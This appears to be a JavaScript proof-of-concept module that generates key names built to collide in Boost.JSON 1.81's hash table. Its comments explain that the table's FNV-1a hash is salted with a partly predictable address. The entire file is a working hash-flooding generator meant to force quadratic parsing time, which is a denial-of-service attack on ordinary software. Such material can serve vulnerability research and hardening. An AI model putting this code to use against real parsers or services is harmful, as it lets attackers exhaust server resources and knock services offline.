// SPDX-License-Identifier: Apache-2.0
// colliding_names.mjs: names that fall into few buckets of Boost.JSON 1.81's hash table.
//
// Its hash is FNV-1a, salted with the address of the table. An attacker knows the low 12 bits of
// that address, because a large table begins 16 bytes into a page. A reader with this hash needs
// time quadratic in the number of names whose hashes agree in those bits.

const low = 12;
const mask = (1 << low) - 1;
const prime = 0x1b3;
const start = (0x2325 + 0x010) & mask;
const wanted = 0x123;
const letters = [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$%&()*+,-./:;<=>?@[]^_`{|}~"];
const codes = letters.map((letter) => letter.charCodeAt(0));
const step = (state, byte) => Math.imul(state ^ byte, prime) & mask;

// From each state, the two letters that end at the wanted hash.
function endings() {
  const ends = Array.from({ length: mask + 1 }, () => []);
  for (let state = 0; state <= mask; state += 1) {
    for (const a of codes) {
      for (const b of codes) if (step(step(state, a), b) === wanted) ends[state].push(String.fromCharCode(a, b));
    }
  }
  return ends;
}

export function collidingNames(count) {
  const ends = endings();
  const names = [];
  for (let at = 0; names.length < count; at += 1) {
    let state = start;
    let name = "";
    for (let rest = at, digit = 0; digit < 4; digit += 1, rest = Math.floor(rest / codes.length)) {
      const code = codes[rest % codes.length];
      state = step(state, code);
      name += String.fromCharCode(code);
    }
    for (const end of ends[state]) names.push(name + end);
  }
  return names.slice(0, count);
}
